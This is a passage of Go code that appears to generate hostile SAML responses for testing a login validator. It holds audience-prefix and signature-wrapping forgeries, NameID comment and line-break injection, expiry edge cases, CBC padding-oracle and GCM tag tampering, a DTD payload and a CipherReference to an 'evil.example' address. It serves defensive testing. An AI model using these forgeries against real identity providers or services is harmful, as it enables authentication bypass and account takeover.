	edit("audience_prefix", "audience", "an audience that ours only begins", "./Conditions/AudienceRestriction/Audience", func(el *etree.Element) { el.SetText(corpus.EntityID + ".evil.example") })
	edit("second_audience_restriction", "audience", "a second restriction that does not name us", "./Conditions/AudienceRestriction", func(el *etree.Element) {
		second := el.Copy()
		find(second, "./Audience").SetText("https://globex.example/saml")
		el.Parent().AddChild(second)
	})
	put("wrong_recipient", "subject_confirmation", "to be delivered to another service", func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) { find(el, data).CreateAttr("Recipient", "https://globex.example/acs") }
	})
	edit("no_recipient", "subject_confirmation", "to be delivered anywhere", data, unset("Recipient"))
	put("wrong_destination", "destination", "the response was sent elsewhere", func(a *answer.Answer) {
		responseSigned(a)
		a.TamperResponse = set("Destination", "https://globex.example/acs")
	})
	put("no_destination", "destination", "a signed response that does not say where it was sent", func(a *answer.Answer) {
		responseSigned(a)
		a.TamperResponse = unset("Destination")
	})
	put("expired", "conditions", "an hour old", func(a *answer.Answer) { a.Now = a.Now.Add(-50 * time.Minute) })
	put("too_old", "issued", "made to hold for ten years, two hours ago", func(a *answer.Answer) { a.Now = a.Now.Add(-2 * time.Hour); a.Life = 87600 * time.Hour })
	edit("conditions_expired", "conditions", "the conditions ended just beyond the skew", "./Conditions", set("NotOnOrAfter", at(-61*time.Second)))
	edit("confirmation_expired", "subject_confirmation", "the confirmation ended just beyond the skew", data, set("NotOnOrAfter", at(-60*time.Second)))
	edit("not_yet_valid", "conditions", "holds from later on", "./Conditions", set("NotBefore", at(2*time.Minute)))
	edit("time_is_no_time", "conditions", "a NotOnOrAfter that is no time", "./Conditions", set("NotOnOrAfter", "tomorrow"))
	put("issued_in_the_future", "issued", "issued ten minutes from now", func(a *answer.Answer) { a.Now = a.Now.Add(10 * time.Minute) })
	edit("never_issued", "issued", "no IssueInstant", "", unset("IssueInstant"))
	edit("no_conditions", "conditions", "no Conditions", "./Conditions", remove)
	edit("two_conditions", "conditions", "two Conditions", "./Conditions", twice)
	edit("unknown_condition", "conditions", "a condition that nobody knows", "./Conditions", func(el *etree.Element) { el.CreateElement("saml:Condition").CreateAttr("Count", "1") })
	edit("no_subject", "subject", "no Subject", "./Subject", remove)
	edit("two_subjects", "subject", "two Subjects", "./Subject", twice)
	edit("no_confirmation", "subject_confirmation", "no SubjectConfirmation", confirmation, remove)
	edit("holder_of_key_only", "subject_confirmation", "confirmed by holding a key only", confirmation, set("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key"))
	edit("sender_vouches_only", "subject_confirmation", "confirmed by the sender's word only", confirmation, set("Method", "urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"))
	edit("no_confirmation_data", "subject_confirmation", "a bearer confirmation without data", data, remove)
	edit("confirmation_not_before", "subject_confirmation", "a NotBefore in a bearer confirmation", data, set("NotBefore", at(-time.Minute)))
	edit("confirmation_without_end", "subject_confirmation", "a bearer confirmation without an end", data, unset("NotOnOrAfter"))
	put("answer_to_another", "in_response_to", "answers a request that is not this browser's", func(a *answer.Answer) { a.InResponseTo = "id-of-somebody-else" })
	put("answer_to_none", "in_response_to", "answers no request, where one must be asked", func(a *answer.Answer) { a.InResponseTo = "" })
	put("answer_without_question", "in_response_to", "answers a request, and this browser has none under way", nil, unsolicited)
	put("answer_to_another_where_the_provider_may_begin", "in_response_to", "answers a request that is not ours, although the provider may begin", func(a *answer.Answer) { a.InResponseTo = "id-of-somebody-else" }, under("idp_initiated"), unsolicited)
	edit("assertion_answers_another", "in_response_to", "the unsigned response names our request, the assertion another", data, set("InResponseTo", "id-of-somebody-else"))
	edit("assertion_answers_none", "in_response_to", "the unsigned response names our request, the assertion none", data, unset("InResponseTo"), under("idp_initiated"))
	put("wrong_issuer", "issuer", "issued by another provider", func(a *answer.Answer) { a.Issuer = "https://other-idp.example" })
	edit("wrong_assertion_issuer", "issuer", "the assertion was issued by another provider", "./Issuer", func(el *etree.Element) { el.SetText("https://other-idp.example") })
	edit("no_issuer", "issuer", "no Issuer in the assertion", "./Issuer", remove)
	edit("issuer_format", "issuer", "the issuer is an e-mail address", "./Issuer", set("Format", saml.NameIDEmail))
	edit("no_authentication", "authentication", "nobody was authenticated", "./AuthnStatement", remove)
	edit("authenticated_in_the_future", "authentication", "authenticated an hour from now", "./AuthnStatement", set("AuthnInstant", at(time.Hour)))
	edit("session_over", "authentication", "the session has ended", "./AuthnStatement", set("SessionNotOnOrAfter", at(-time.Hour)))
	edit("old_proof", "authentication", "an old proof where a new one is demanded", "./AuthnStatement", set("AuthnInstant", at(-time.Hour)), under("forced"))
	put("weaker_context", "authentication", "a password where two factors are demanded", nil, under("context"))
	edit("empty_name", "subject", "an empty name", "./Subject/NameID", func(el *etree.Element) { el.SetText("") })
	edit("no_name", "subject", "no NameID", "./Subject/NameID", remove)
	edit("two_names", "subject", "two NameIDs", "./Subject/NameID", twice)
	edit("element_in_name", "subject", "an element in the name", "./Subject/NameID", func(el *etree.Element) { el.CreateElement("saml:b").SetText(".evil.example") })
	edit("long_name", "subject", "a name of a thousand characters", "./Subject/NameID", func(el *etree.Element) { el.SetText(strings.Repeat("a", 1000)) })
	edit("control_character_in_name", "subject", "a line break in the name", "./Subject/NameID", func(el *etree.Element) { el.SetText("ann@acme.example\nadmin@acme.example") })
	put("transient", "subject", "a name that lasts for one session", func(a *answer.Answer) { a.NameIDFormat = saml.NameIDTransient })
	put("subject_attribute_missing", "subject", "the attribute that is to be the subject is missing", func(a *answer.Answer) { a.Attributes = a.Attributes[:1] }, under("employee"))
	put("subject_attribute_twice", "subject", "the attribute that is to be the subject has two values", func(a *answer.Answer) { a.Attributes[1].Values = []string{"4711", "1"} }, under("employee"))
	put("attribute_bomb", "attributes", "a thousand attributes", func(a *answer.Answer) {
		for i := range 1000 {
			a.Attributes = append(a.Attributes, answer.Attribute{Name: fmt.Sprint("a", i), Values: []string{"x"}})
		}
	})
	put("value_bomb", "attributes", "an attribute of five thousand values", func(a *answer.Answer) {
		a.TamperAssertion = func(el *etree.Element) {
			attribute := find(el, "./AttributeStatement").CreateElement("saml:Attribute")
			attribute.CreateAttr("Name", "bomb")
			for range 5000 {
				attribute.CreateElement("saml:AttributeValue")
			}
		}
	})
	edit("assertion_version", "assertion", "an assertion of version 1.1", "", set("Version", "1.1"))
	put("status_failed_with_assertion", "status", "the provider says no, and an assertion follows all the same", func(a *answer.Answer) {
		a.TamperResponse = func(el *etree.Element) {
			find(el, "./Status/StatusCode").CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
		}
	})
	put("status_failed", "status", "the provider says that the person is not assigned", func(a *answer.Answer) {
		a.Status, a.SubStatus = "urn:oasis:names:tc:SAML:2.0:status:Responder", "urn:oasis:names:tc:SAML:2.0:status:RequestDenied"
		a.StatusMessage = "User is not assigned to the client application."
	})
	put("no_status", "status", "no Status", func(a *answer.Answer) {
		a.TamperResponse = func(el *etree.Element) { el.RemoveChild(find(el, "./Status")) }
	})
}

func (m *maker) encryption() {
	put := func(name, reason, does string, change func(*answer.Answer), more ...func(*corpus.Entry)) {
		m.hostile(name, reason, does, m.bytes(change), more...)
	}
	sealedTree := func(content string) *etree.Element {
		return m.tree(func(a *answer.Answer) { a.Encrypt, a.Recipe.Content = m.us, content })
	}
	swap := func(name, does, path, value string) {
		r := sealedTree(xmlenc.AES256CBC)
		find(r, path).CreateAttr("Algorithm", value)
		m.hostile(name, "algorithm", does, write(r))
	}
	put("clear_where_encryption_is_demanded", "encryption", "an assertion in clear, where the tenant demands encryption", nil, under("encrypted"))
	put("encrypted_for_another", "encryption", "encrypted for another service", func(a *answer.Answer) { a.Encrypt = m.stranger })
	put("encrypted_and_unsigned", "signature", "encrypted for us by anybody, signed by nobody", func(a *answer.Answer) { a.Encrypt, a.SignAssertion, a.NameID = m.us, false, corpus.Mallory })
	put("encrypted_and_signed_by_another", "signature", "encrypted for us, signed by the attacker", func(a *answer.Answer) { a.Encrypt, a.Signer, a.NameID = m.us, m.attacker, corpus.Mallory })
	swap("rsa15", "the key is wrapped with RSA 1.5", "//EncryptedKey/EncryptionMethod", xmlenc.RSA15)
	swap("triple_des", "the content is encrypted with Triple DES", "//EncryptedData/EncryptionMethod", xmlenc.TripleDES)
	swap("cipher_unknown", "an unknown cipher", "//EncryptedData/EncryptionMethod", "urn:example:rot13")

	r := sealedTree(xmlenc.AES256CBC)
	secret := make([]byte, 32)
	rand.Read(secret)
	wrapped := must(rsa.EncryptOAEP(crypto.SHA1.New(), rand.Reader, m.us.PublicKey.(*rsa.PublicKey), secret, nil))
	find(r, "//EncryptedKey/CipherData/CipherValue").SetText(base64.StdEncoding.EncodeToString(wrapped))
	m.hostile("wrong_content_key", "encryption", "a content key that fits nothing", write(r))
	wrapped = must(rsa.EncryptOAEP(crypto.SHA1.New(), rand.Reader, m.us.PublicKey.(*rsa.PublicKey), secret[:5], nil))
	find(r, "//EncryptedKey/CipherData/CipherValue").SetText(base64.StdEncoding.EncodeToString(wrapped))
	m.hostile("short_content_key", "encryption", "a content key of five bytes", write(r))

	value := func(r *etree.Element, change func([]byte) []byte) *etree.Element {
		el := find(r, "//EncryptedData/CipherData/CipherValue")
		el.SetText(base64.StdEncoding.EncodeToString(change(must(base64.StdEncoding.DecodeString(el.Text())))))
		return r
	}
	last := func(b []byte) []byte { b[len(b)-1] ^= 0x55; return b }
	m.hostile("cbc_padding", "encryption", "the last block of CBC was changed, as a padding oracle asks", write(value(sealedTree(xmlenc.AES256CBC), last)))
	m.hostile("gcm_tag", "encryption", "the tag of GCM was changed", write(value(sealedTree(xmlenc.AES256GCM), last)))
	m.hostile("cipher_text_short", "encryption", "three bytes of cipher text", write(value(sealedTree(xmlenc.AES128GCM), func(b []byte) []byte { return b[:3] })))
	m.hostile("cipher_text_uneven", "encryption", "CBC that is no whole number of blocks", write(value(sealedTree(xmlenc.AES128CBC), func(b []byte) []byte { return b[:len(b)-3] })))
	r = sealedTree(xmlenc.AES256GCM)
	key := find(r, "//EncryptedKey")
	for i := range 20 {
		again := key.Copy()
		again.CreateAttr("Id", fmt.Sprint("_k", i))
		key.Parent().AddChild(again)
	}
	m.hostile("many_wrapped_keys", "encryption", "twenty-one wrapped keys, to make us work", write(r))
	r = sealedTree(xmlenc.AES256GCM)
	find(r, "//EncryptedKey").Parent().RemoveChild(find(r, "//EncryptedKey"))
	m.hostile("no_wrapped_key", "encryption", "no wrapped key", write(r))
	r = sealedTree(xmlenc.AES256GCM)
	cipherData := find(r, "//EncryptedData/CipherData")
	cipherData.RemoveChild(find(cipherData, "./CipherValue"))
	cipherData.CreateElement("xenc:CipherReference").CreateAttr("URI", "https://evil.example/x")
	m.hostile("cipher_reference", "encryption", "the cipher text is an address", write(r))

	seal := func(name, reason, does string, plain []byte) {
		r := m.tree(nil)
		r.RemoveChild(find(r, "./Assertion"))
		box := r.CreateElement("saml:EncryptedAssertion")
		box.AddChild(must(xmlenc.Encrypt(plain, m.us, xmlenc.Recipe{})))
		m.hostile(name, reason, does, write(r))
	}
	assertion := write(find(m.tree(nil), "./Assertion").Copy())
	seal("encrypted_two_assertions", "encryption", "two assertions were encrypted as one", append(append([]byte(nil), assertion...), assertion...))
	seal("encrypted_wrapping", "one_assertion", "the signed assertion inside an encrypted evil one", func() []byte {
		e := evil(unsigned(find(m.tree(nil), "./Assertion").Copy()))
		e.CreateElement("saml:Advice").AddChild(find(m.tree(nil), "./Assertion").Copy())
		return write(e)
	}())
	seal("encrypted_response", "one_assertion", "a whole response was encrypted", m.bytes(responseSigned))
	seal("encrypted_dtd", "encryption", "what was encrypted has a DTD", append([]byte(`<!DOCTYPE a [<!ENTITY x "y">]>`), assertion...))
	seal("encrypted_comment", "encryption", "what was encrypted has a comment in its name", []byte(strings.Replace(string(assertion), ">"+corpus.Person+"<", ">ann<!-- -->@acme.example<", 1)))
	seal("encrypted_text", "encryption", "what was encrypted is no XML", []byte("hello"))
}
